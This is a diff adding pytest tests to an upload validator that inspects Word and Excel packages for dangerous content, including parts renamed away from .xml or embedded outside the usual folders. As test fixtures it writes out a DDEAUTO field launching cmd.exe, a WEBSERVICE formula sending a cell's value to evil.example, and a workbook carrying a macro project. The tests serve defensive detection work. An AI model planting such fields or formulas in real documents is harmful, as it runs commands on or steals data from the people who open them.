@@ -548,3 +548,50 @@ def test_a_package_holding_two_parts_of_one_name_is_refused():
         archive.writestr("word/_rels/settings.xml.rels", rels())
 
     assert document_problem("docx", buffer.getvalue()) == DocumentProblem.UNREADABLE.format(kind="a Word document")
+
+
+@pytest.mark.parametrize("name", ["word/document.bin", "word/document", "word/document.XML"])
+def test_a_word_document_under_a_name_not_ending_in_xml_has_its_fields_checked(name):
+    """The reviewer's file: the content types and the package's relationships name the main part, whatever its
+    name; only parts whose names ended in .xml were read for fields."""
+    body = _field(['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"'])
+    parts = docx_parts(body=body, types={name: f"{CT}.wordprocessingml.document.main+xml"})
+    parts[name] = parts.pop("word/document.xml")
+    parts["_rels/.rels"] = rels(("officeDocument", name))
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        f'<Override PartName="/word/document.xml" ContentType="{CT}.wordprocessingml.document.main+xml"/>', ""
+    )
+
+    assert document_problem("docx", package(parts)) == DocumentProblem.LINKED_FILE
+
+
+def test_a_sheet_under_a_name_not_ending_in_xml_has_its_formulas_checked():
+    parts = xlsx_parts(
+        cells='<c r="C1"><f>WEBSERVICE("https://evil.example/?"&amp;A1)</f></c>',
+        types={"xl/worksheets/sheet1.bin": f"{CT}.spreadsheetml.worksheet+xml"},
+    )
+    parts["xl/worksheets/sheet1.bin"] = parts.pop("xl/worksheets/sheet1.xml")
+    parts["xl/_rels/workbook.xml.rels"] = rels(("worksheet", "worksheets/sheet1.bin"))
+
+    assert document_problem("xlsx", package(parts)) == DocumentProblem.FORMULA_OUTSIDE
+
+
+def test_an_xml_part_under_another_name_is_held_to_the_size_limit():
+    body = "<w:p><w:r><w:t>Support</w:t></w:r></w:p>" * (MAX_XML_PART_BYTES // 40)
+    parts = docx_parts(types={"word/notes.bin": f"{CT}.wordprocessingml.footnotes+xml"})
+    parts["word/notes.bin"] = docx_parts(body=body)["word/document.xml"]
+
+    assert document_problem("docx", package(parts)) == DocumentProblem.PART_TOO_BIG
+
+
+def test_a_package_embedded_outside_embeddings_is_checked_as_one():
+    """A workbook kept at word/media/x.xlsx, reached through a package relationship, was never opened."""
+    with_macros = _with(xlsx_parts(), **{"xl/vbaProject.bin": b"x"})
+    document_rels = [("package", "media/x.xlsx")]
+    hidden = _with(docx_parts(document_rels=document_rels), **{"word/media/x.xlsx": with_macros})
+    as_bin = _with(docx_parts(document_rels=[("package", "media/x.bin")]), **{"word/media/x.bin": xlsx()})
+    plain = _with(docx_parts(document_rels=document_rels), **{"word/media/x.xlsx": xlsx()})
+
+    assert document_problem("docx", hidden) == DocumentProblem.MACROS
+    assert document_problem("docx", as_bin) == DocumentProblem.EMBEDDED_PROGRAM
+    assert document_problem("docx", plain) is None
